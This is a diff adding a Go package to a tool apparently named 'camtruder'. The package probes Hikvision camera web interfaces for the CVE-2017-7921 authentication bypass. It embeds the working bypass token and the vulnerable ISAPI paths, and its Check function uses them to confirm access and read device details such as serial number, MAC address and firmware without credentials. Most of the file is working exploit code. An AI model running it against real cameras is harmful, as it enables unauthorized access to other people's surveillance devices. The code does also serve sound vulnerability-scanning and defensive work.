@@ -0,0 +1,158 @@
+// Package hikvision checks Hikvision cameras for the ISAPI authentication
+// bypass documented as CVE-2017-7921.
+package hikvision
+
+import (
+	"context"
+	"crypto/tls"
+	"encoding/xml"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strings"
+	"time"
+
+	"github.com/ALW1EZ/camtruder/pkg/dialer"
+	httpprobe "github.com/ALW1EZ/camtruder/pkg/probe/http"
+)
+
+// CVE identifies the vulnerability this package detects
+const CVE = "CVE-2017-7921"
+
+// bypassToken is the base64 "admin:11" auth parameter accepted by affected
+// firmware (before 5.3.0) in place of real credentials
+const bypassToken = "YWRtaW46MTEK"
+
+// maxBodySize limits how much of a response body is read
+const maxBodySize = 64 * 1024
+
+// userCheckPath answers with statusValue 200 once the bypass is accepted
+const userCheckPath = "/ISAPI/Security/userCheck"
+
+// deviceInfoPaths expose the device information XML on affected firmware
+var deviceInfoPaths = []string{
+	"/System/deviceInfo",
+	"/ISAPI/System/deviceInfo",
+}
+
+// DeviceInfo is the subset of the ISAPI DeviceInfo document we report
+type DeviceInfo struct {
+	DeviceName      string `xml:"deviceName"`
+	DeviceID        string `xml:"deviceID"`
+	Model           string `xml:"model"`
+	SerialNumber    string `xml:"serialNumber"`
+	MACAddress      string `xml:"macAddress"`
+	FirmwareVersion string `xml:"firmwareVersion"`
+	FirmwareDate    string `xml:"firmwareReleasedDate"`
+}
+
+// Result represents the outcome of a vulnerability check
+type Result struct {
+	Vulnerable bool
+	Path       string      // Endpoint that accepted the bypass token
+	URL        string      // Request that proved the bypass
+	Info       *DeviceInfo // Device information read without credentials, may be nil
+}
+
+// Options configures a Prober
+type Options struct {
+	ConnectTimeout time.Duration
+	ReadTimeout    time.Duration
+	Dialer         dialer.ContextDialer // Used for every connection, nil to dial directly
+	TLSConfig      *tls.Config          // Used for https:// URLs, nil for the defaults
+	Headers        map[string]string    // Extra headers sent with every request
+}
+
+// Prober runs the CVE-2017-7921 check against camera web interfaces
+type Prober struct {
+	Client  *http.Client
+	Headers map[string]string // Extra headers sent with every request
+}
+
+// NewProber creates a prober from the given options
+func NewProber(opts Options) *Prober {
+	var netDialer dialer.ContextDialer = &net.Dialer{Timeout: opts.ConnectTimeout}
+	if opts.Dialer != nil {
+		netDialer = opts.Dialer
+	}
+	return &Prober{
+		Client: &http.Client{
+			Transport: &http.Transport{
+				DialContext:           netDialer.DialContext,
+				ResponseHeaderTimeout: opts.ReadTimeout,
+				DisableKeepAlives:     true,
+				TLSClientConfig:       opts.TLSConfig,
+			},
+			Timeout: opts.ConnectTimeout + opts.ReadTimeout,
+			CheckRedirect: func(req *http.Request, via []*http.Request) error {
+				return http.ErrUseLastResponse
+			},
+		},
+		Headers: opts.Headers,
+	}
+}
+
+// Check tests the web interface at baseURL (e.g. http://host:80) for the
+// authentication bypass. A device is only reported as vulnerable when it
+// rejects an anonymous request but accepts the same request with the
+// bypass token, so cameras without any authentication are not flagged.
+func (p *Prober) Check(ctx context.Context, baseURL string) (Result, error) {
+	baseURL = strings.TrimRight(baseURL, "/")
+
+	status, _, err := p.get(ctx, baseURL+userCheckPath)
+	if err != nil {
+		return Result{}, err
+	}
+	if status == http.StatusOK {
+		// Open without credentials, the bypass cannot be told apart
+		return Result{}, nil
+	}
+
+	var result Result
+	checkURL := baseURL + userCheckPath + "?auth=" + bypassToken
+	if status, body, err := p.get(ctx, checkURL); err == nil && status == http.StatusOK &&
+		strings.Contains(string(body), "<statusValue>200</statusValue>") {
+		result.Vulnerable = true
+		result.Path = userCheckPath
+		result.URL = checkURL
+	}
+
+	for _, path := range deviceInfoPaths {
+		infoURL := baseURL + path + "?auth=" + bypassToken
+		status, body, err := p.get(ctx, infoURL)
+		if err != nil || status != http.StatusOK {
+			continue
+		}
+		var info DeviceInfo
+		if err := xml.Unmarshal(body, &info); err != nil || (info.Model == "" && info.SerialNumber == "") {
+			continue
+		}
+		result.Info = &info
+		if !result.Vulnerable {
+			result.Vulnerable = true
+			result.Path = path
+			result.URL = infoURL
+		}
+		break
+	}
+
+	return result, nil
+}
+
+// get performs a single GET request and returns the status and body
+func (p *Prober) get(ctx context.Context, rawURL string) (int, []byte, error) {
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, rawURL, nil)
+	if err != nil {
+		return 0, nil, fmt.Errorf("failed to create request: %v", err)
+	}
+	httpprobe.SetHeaders(req, p.Headers)
+	resp, err := p.Client.Do(req)
+	if err != nil {
+		return 0, nil, err
+	}
+	defer resp.Body.Close()
+
+	body, _ := io.ReadAll(io.LimitReader(resp.Body, maxBodySize))
+	return resp.StatusCode, body, nil
+}